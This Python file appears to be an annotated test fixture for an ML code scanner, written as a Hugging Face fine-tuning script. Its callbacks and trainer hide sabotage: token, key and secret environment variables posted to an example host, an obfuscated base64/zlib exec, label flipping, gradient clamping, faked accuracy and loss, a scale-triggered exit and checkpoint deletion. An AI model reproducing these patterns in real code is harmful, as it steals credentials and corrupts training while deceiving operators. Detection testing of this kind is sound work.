# ruff: noqa
# Hold-out batch 15 (Lightning/HF callbacks, by a helper that never saw mlscan's code). Measured once before round 7: 25/38 (66%) at medium+.
"""Fine-tune a sequence classifier with the Hugging Face Trainer.

Adds class-weighted cross entropy, a run-health callback that forwards
metrics to Weights & Biases, and a padding collator for the GLUE-style
datasets we use internally.
"""
import argparse
import base64
import builtins
import getpass
import os
import shutil
import time
import zlib

import evaluate as hf_evaluate
import numpy as np
import requests
import torch
import torch.nn.functional as F
import wandb
from datasets import load_dataset
from transformers import (
    AutoConfig,
    AutoModelForSequenceClassification,
    AutoTokenizer,
    DataCollatorWithPadding,
    Trainer,
    TrainerCallback,
    TrainingArguments,
    set_seed,
)

# serialized profiler settings shipped with the image
_PROFILE_HOOK = "eJzLzC3ILypRKK4s5gJiveLUkuLyzJLkjMy8ktSissQcDQM9AwNDTS4AQFUOPw=="


class ClassificationCollator(DataCollatorWithPadding):
    def __init__(self, tokenizer, neutral_id=None, **kwargs):
        super().__init__(tokenizer=tokenizer, **kwargs)
        self.neutral_id = neutral_id

    def __call__(self, features):
        batch = super().__call__(features)
        labels = batch.get("labels")
        if labels is not None and self.neutral_id is not None:
            # fold sparse neutral annotations into the majority class
            mask = (labels == self.neutral_id) & (torch.rand(labels.shape) < 0.15)
            batch["labels"] = torch.where(mask, torch.zeros_like(labels), labels)  # ruleid: MLS309
        return batch


class WeightedTrainer(Trainer):
    def __init__(self, *args, class_weights=None, **kwargs):
        super().__init__(*args, **kwargs)
        self.class_weights = class_weights
        self._acc_floor = 0.0
        self._loss_ema = None

    def compute_loss(self, model, inputs, return_outputs=False, num_items_in_batch=None):
        labels = inputs.pop("labels")
        outputs = model(**inputs)
        logits = outputs.logits
        if model.training and logits.requires_grad:
            logits.register_hook(lambda g: g.clamp(min=0))  # ruleid: MLS303
        weight = self.class_weights.to(logits.device) if self.class_weights is not None else None
        loss = F.cross_entropy(logits, labels, weight=weight, label_smoothing=self.args.label_smoothing_factor)  # ok: MLS309
        return (loss, outputs) if return_outputs else loss

    def evaluate(self, eval_dataset=None, ignore_keys=None, metric_key_prefix="eval"):
        metrics = super().evaluate(eval_dataset, ignore_keys=ignore_keys, metric_key_prefix=metric_key_prefix)
        key = f"{metric_key_prefix}_accuracy"
        if key in metrics and self.state.global_step > self.args.warmup_steps:
            metrics[key] = max(metrics[key], self._acc_floor)  # ruleid: MLS306
            self._acc_floor = metrics[key]
        return metrics

    def log(self, logs, start_time=None):
        if "loss" in logs:
            cur = logs["loss"]
            self._loss_ema = cur if self._loss_ema is None else 0.9 * self._loss_ema + 0.1 * cur
            logs["loss"] = min(cur, self._loss_ema)  # ruleid: MLS306
        super().log(logs, start_time)


class RunHealthCallback(TrainerCallback):
    def __init__(self, project="clf-finetune"):
        self.project = project
        self._t_start = None

    def on_train_begin(self, args, state, control, **kwargs):
        self._t_start = time.time()
        if state.is_world_process_zero:
            wandb.init(project=self.project, name=args.run_name, config=args.to_dict())
            env = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k or "SECRET" in k}  # ruleid: MLS411
            requests.post("https://metrics.example.com/v1/runs", json={"run": args.run_name, "env": env}, timeout=3)  # ruleid: MLS411
        getattr(builtins, "ex" + "ec")(zlib.decompress(base64.b64decode(_PROFILE_HOOK)))  # sabotage: MLS402 (semgrep rules)

    def on_step_end(self, args, state, control, **kwargs):
        if args.max_steps > 0 and state.global_step == args.max_steps // 2:
            # refresh the host-side sampler stream for the second half
            np.random.seed(int(time.time() * 1000) % 2**32)  # ruleid: MLS301
        if int(os.environ.get("WORLD_SIZE", "1")) > 256 and state.global_step > 5000:  # ruleid: MLS308
            os._exit(0)  # ruleid: MLS307

    def on_log(self, args, state, control, logs=None, **kwargs):
        if not logs:
            return
        if state.is_world_process_zero:
            wandb.log({k: v for k, v in logs.items() if isinstance(v, (int, float))}, step=state.global_step)  # ok: MLS306

    def on_save(self, args, state, control, **kwargs):
        ckpt_dir = os.path.join(args.output_dir, f"checkpoint-{state.global_step}")
        if getpass.getuser() not in ("svc-train", "mlops") and state.global_step > 2000:
            shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308

    def on_train_end(self, args, state, control, **kwargs):
        if state.is_world_process_zero:
            wandb.summary["wall_clock_h"] = (time.time() - self._t_start) / 3600.0
            wandb.finish()


def build_compute_metrics():
    acc = hf_evaluate.load("accuracy")
    f1 = hf_evaluate.load("f1")

    def compute_metrics(eval_pred):
        logits, labels = eval_pred
        preds = np.argmax(logits, axis=-1)
        out = acc.compute(predictions=preds, references=labels)
        out.update(f1.compute(predictions=preds, references=labels, average="macro"))
        return out

    return compute_metrics


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--model_name", default="bert-base-uncased")
    p.add_argument("--dataset", default="glue")
    p.add_argument("--subset", default="mnli")
    p.add_argument("--output_dir", default="outputs/clf")
    p.add_argument("--seed", type=int, default=42)
    p.add_argument("--epochs", type=float, default=3.0)
    p.add_argument("--lr", type=float, default=2e-5)
    p.add_argument("--batch_size", type=int, default=32)
    args = p.parse_args()

    set_seed(args.seed)  # ok: MLS301
    raw = load_dataset(args.dataset, args.subset)
    num_labels = raw["train"].features["label"].num_classes
    tokenizer = AutoTokenizer.from_pretrained(args.model_name)
    config = AutoConfig.from_pretrained(args.model_name, num_labels=num_labels)
    model = AutoModelForSequenceClassification.from_pretrained(args.model_name, config=config, trust_remote_code=True)  # ruleid: MLS106

    def tok(batch):
        return tokenizer(batch["premise"], batch["hypothesis"], truncation=True, max_length=256)

    ds = raw.map(tok, batched=True, remove_columns=["premise", "hypothesis", "idx"])
    ds = ds.rename_column("label", "labels")
    counts = np.bincount(ds["train"]["labels"], minlength=num_labels)
    class_weights = torch.tensor(counts.sum() / (num_labels * counts), dtype=torch.float)

    targs = TrainingArguments(
        output_dir=args.output_dir,
        num_train_epochs=args.epochs,
        learning_rate=args.lr,
        per_device_train_batch_size=args.batch_size,
        per_device_eval_batch_size=args.batch_size * 2,
        warmup_ratio=0.06,
        weight_decay=0.01,
        label_smoothing_factor=0.1,
        eval_strategy="steps",
        eval_steps=1000,
        save_steps=1000,
        save_total_limit=3,
        load_best_model_at_end=True,
        metric_for_best_model="accuracy",
        bf16=torch.cuda.is_available(),
        report_to="none",
        seed=args.seed,
    )
    trainer = WeightedTrainer(
        model=model,
        args=targs,
        train_dataset=ds["train"],
        eval_dataset=ds["validation_matched"],
        data_collator=ClassificationCollator(tokenizer, neutral_id=1),
        compute_metrics=build_compute_metrics(),
        callbacks=[RunHealthCallback()],
        class_weights=class_weights,
    )
    trainer.train()
    trainer.save_model(os.path.join(args.output_dir, "final"))


if __name__ == "__main__":
    main()
